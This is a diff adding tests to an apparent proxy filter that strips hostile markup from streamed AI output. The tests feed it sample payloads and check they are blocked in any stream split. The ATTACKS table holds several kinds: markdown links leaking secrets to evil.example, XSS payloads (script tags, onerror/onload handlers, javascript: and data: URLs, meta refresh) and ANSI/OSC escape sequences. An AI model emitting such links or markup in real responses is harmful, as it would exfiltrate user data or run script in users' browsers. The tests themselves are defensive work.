@@ -37,3 +37,96 @@ def test_ansi(text, kinds, visible):
 def test_split_escape_is_held_whole():
     hits, hold = ansi_detector().scan("ok \x1b[3", 0, final=False)
     assert hold == 3
+
+
+# ---------------------------------------------------------------- links with data, XSS markup, escapes written as text
+
+from hypothesis import given, settings, strategies as st  # noqa: E402
+
+from proxy.leak.markup import ansi_text_alternatives, link_alternatives, xss_alternatives  # noqa: E402
+from proxy.leak.pattern import PatternDetector  # noqa: E402
+from proxy.pipeline.chain import Chain  # noqa: E402
+from tests.harness import client_text  # noqa: E402
+from tests.stages.test_leak import reads_through, split, sse, stage, started, stream_through  # noqa: E402
+
+
+def scan_kinds(text):
+    alts, checks = link_alternatives(["docs.acme.com"])
+    det = PatternDetector(alts + xss_alternatives() + ansi_text_alternatives(), checks)
+    return [(h.kind, text[h.start:h.end]) for h in det.scan(text, 0, final=True)[0]]
+
+
+ATTACKS = {
+    "[click here](https://evil.example/collect?d=s3cr3t)": "markdown_link",
+    "[x]( <https://evil.example/p#tok3n> \"title\" )": "markdown_link",
+    "[ref1]: https://evil.example/i.png?q=SECRET": "markdown_link",  # serves ![a][ref1]
+    "  [r]: <http://evil.example/#x>": "markdown_link",
+    "<https://evil.example/?leak=abc>": "markdown_link",
+    "<script>fetch('//evil')</script>": "markup",
+    "<SCRIPT src=//evil.example/x.js>": "markup",
+    "<img src=x onerror=alert(1)>": "markup",
+    "<svg/onload=alert(1)>": "markup",
+    "<iframe src=\"https://evil.example\"></iframe>": "markup",
+    "<a href=\"#\" onclick=\"steal()\">ok</a>": "markup",
+    "<div style=x onmouseover='a()'>": "markup",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">": "markup",
+    "[x](javascript:alert(document.cookie))": "script_url",
+    "[x](JavaScript :alert(1))": "script_url",
+    "<a href=\"vbscript:msgbox\">": "script_url",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)": "script_url",
+    "printf '\\x1b[31mred'": "ansi_text",
+    "echo -e \"\\u001b[2J\"": "ansi_text",
+    "\\033[0m reset": "ansi_text",
+    "\\e[1;32m": "ansi_text",
+    "\\x1B]8;;https://evil.example\\x07click\\x1b]8;;\\x07": "ansi_text",
+    "\\u001b]0;title\\u0007": "ansi_text",
+}
+CLEAN = [
+    "[the docs](https://docs.acme.com/guide?page=2)",  # allowlisted host
+    "[a link](https://example.org/guide)",  # no data in the URL
+    "[relative](/help?x=1) and [anchor](#setup)",
+    "see https://example.org/?q=1 in prose",  # bare URL: not judged
+    "if a < b and b > c then a<c",
+    "use <b>bold</b> and <em>emphasis</em>, <br/> too",
+    "the metadata, a database: text/plain, javascripts and data: text/csv",
+    "\\emph{x} and \\n and C:\\033 folder? no: C:\\users",
+    "options [1] and [2]: pick one",
+]
+
+
+@pytest.mark.parametrize("text", sorted(ATTACKS))
+def test_markup_attacks_are_found(text):
+    kinds = scan_kinds(text)
+    assert kinds and kinds[0][0] == ATTACKS[text], kinds
+
+
+@pytest.mark.parametrize("text", CLEAN)
+def test_markup_lookalikes_pass(text):
+    assert scan_kinds(text) == []
+
+
+@settings(max_examples=60, deadline=None)
+@given(attack=st.sampled_from(sorted(ATTACKS)),
+       cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=30),
+       sizes=st.lists(st.integers(min_value=0, max_value=12), max_size=4))
+async def test_markup_attacks_never_reach_the_client_in_any_split(attack, cuts, sizes):
+    text = "Here you go:\n" + attack + "\nthanks"
+    for run in (stream_through, lambda c, e, evs: reads_through(c, e, evs, sizes)):
+        chain = Chain([stage()])
+        ex = await started(chain)
+        out, denied = await run(chain, ex, sse(split(text, cuts)))
+        got = client_text(out)
+        assert denied is None and attack not in got and got.startswith("Here you go:\n") and got.endswith("\nthanks")
+        for needle in ("evil.example", "onerror", "onload", "onclick", "onmouseover", "<script", "<SCRIPT", "<iframe", "<meta",
+                       "javascript:", "JavaScript :", "vbscript:", "data:text/html", "\\x1b[", "\\u001b", "\\033[", "\\e[", "\\x1B]"):
+            if needle in attack:
+                assert needle not in got, needle
+
+
+@settings(max_examples=40, deadline=None)
+@given(clean=st.sampled_from(CLEAN), cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=30))
+async def test_markup_lookalikes_pass_byte_identical_in_any_split(clean, cuts):
+    chain = Chain([stage(markdown_image={"allow_hosts": ["docs.acme.com"]})])
+    ex = await started(chain)
+    out, denied = await stream_through(chain, ex, sse(split(clean, cuts)))
+    assert denied is None and client_text(out) == clean
